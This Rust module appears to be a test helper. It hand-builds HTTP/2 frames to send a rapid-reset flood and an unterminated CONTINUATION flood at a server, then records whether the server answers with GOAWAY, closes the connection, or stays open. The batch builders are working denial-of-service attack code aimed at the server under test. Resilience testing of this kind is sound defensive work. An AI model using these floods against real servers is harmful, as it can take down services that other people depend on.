//! A tiny raw HTTP/2 frame writer and reader, for floods the `h2` crate refuses to send (rapid
//! reset, endless CONTINUATION). Header blocks use HPACK literals without indexing only, so the
//! peer's decoder state never matters.
use std::time::{Duration, Instant};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const CONTINUATION: u8 = 9;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
pub const ACK: u8 = 0x1;
pub const CANCEL: u32 = 0x8;
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// Appends one frame to `out`.
pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// HPACK: a literal header field without indexing, with a literal name.
pub fn literal(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0x00);
    string(block, name.as_bytes());
    string(block, value.as_bytes());
}

fn string(block: &mut Vec<u8>, s: &[u8]) {
    // Integer with a 7-bit prefix, no Huffman.
    let mut n = s.len();
    if n < 127 {
        block.push(n as u8);
    } else {
        block.push(127);
        n -= 127;
        while n >= 128 {
            block.push((n % 128 + 128) as u8);
            n /= 128;
        }
        block.push(n as u8);
    }
    block.extend_from_slice(s);
}

/// The header block of a request: `method` to `authority` (`path` omitted for CONNECT).
pub fn request_block(method: &str, authority: &str, path: Option<&str>) -> Vec<u8> {
    let mut b = Vec::new();
    literal(&mut b, ":method", method);
    if let Some(p) = path {
        literal(&mut b, ":scheme", "http");
        literal(&mut b, ":path", p);
    }
    literal(&mut b, ":authority", authority);
    b
}

/// The client preface and an empty SETTINGS frame.
pub fn preface() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    out
}

/// How the server ended (or did not end) a flood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ending {
    /// GOAWAY with this error code.
    GoAway(u32),
    /// The connection closed (EOF or reset) without a GOAWAY.
    Closed,
    /// The flood was sent whole and the connection stayed open.
    StillOpen,
}

/// Reads frames until a GOAWAY, EOF or `limit` (it answers nothing: the flood is short of the
/// keepalive timeout).
async fn read_until_end<R: AsyncRead + Unpin>(mut r: R, limit: Duration) -> Ending {
    let deadline = Instant::now() + limit;
    let mut head = [0u8; 9];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, r.read_exact(&mut head)).await {
            Err(_) => return Ending::StillOpen,
            Ok(Err(_)) => return Ending::Closed,
            Ok(Ok(_)) => {}
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0u8; len];
        match tokio::time::timeout(left, r.read_exact(&mut payload)).await {
            Err(_) => return Ending::StillOpen,
            Ok(Err(_)) => return Ending::Closed,
            Ok(Ok(_)) => {}
        }
        if head[3] == GOAWAY && payload.len() >= 8 {
            return Ending::GoAway(u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]));
        }
    }
}

/// Sends the preface, then `batch()` over and over (at most `max_batches` times, for at most
/// `limit`) while reading what the server says; returns how the server ended it and how many
/// batches were written.
pub async fn flood<IO>(
    io: IO,
    mut batch: impl FnMut(u64) -> Vec<u8>,
    max_batches: u64,
    limit: Duration,
) -> (Ending, u64)
where
    IO: AsyncRead + AsyncWrite + Send + 'static,
{
    let (r, mut w) = tokio::io::split(io);
    let reader = tokio::spawn(read_until_end(r, limit + Duration::from_secs(5)));
    let start = Instant::now();
    let mut first = preface();
    let mut ack = Vec::new();
    frame(&mut ack, SETTINGS, ACK, 0, &[]);
    first.extend_from_slice(&ack);
    let mut sent = 0;
    if w.write_all(&first).await.is_ok() {
        while sent < max_batches && start.elapsed() < limit && !reader.is_finished() {
            let bytes = batch(sent);
            match tokio::time::timeout(Duration::from_secs(5), w.write_all(&bytes)).await {
                Ok(Ok(())) => sent += 1,
                _ => break,
            }
        }
        let _ = w.flush().await;
    }
    // A reader that saw nothing by the end of its own deadline: the flood was taken whole.
    let ending = reader.await.unwrap_or(Ending::Closed);
    (ending, sent)
}

/// A batch of `n` rapid-reset streams (HEADERS then RST_STREAM CANCEL each) from stream id
/// `first_id` on; `end_stream` for requests without a body (not CONNECT).
pub fn rapid_reset_batch(block: &[u8], first_id: u32, n: u32, end_stream: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(n as usize * (block.len() + 32));
    let flags = END_HEADERS | if end_stream { END_STREAM } else { 0 };
    for i in 0..n {
        let id = first_id + 2 * i;
        frame(&mut out, HEADERS, flags, id, block);
        frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
    }
    out
}

/// CONTINUATION flood: batch 0 opens stream 1 with HEADERS without END_HEADERS, every batch
/// (including 0) then adds `per_batch` CONTINUATION frames of `chunk` bytes of header block
/// (literal `x-flood` headers), never ending the block.
pub fn continuation_batch(block: &[u8], batch: u64, per_batch: usize, chunk: usize) -> Vec<u8> {
    let mut out = Vec::new();
    if batch == 0 {
        frame(&mut out, HEADERS, END_STREAM, 1, block);
    }
    let mut piece = Vec::new();
    literal(&mut piece, "x-flood", &"a".repeat(chunk.saturating_sub(12).max(1)));
    for _ in 0..per_batch {
        frame(&mut out, CONTINUATION, 0, 1, &piece);
    }
    out
}
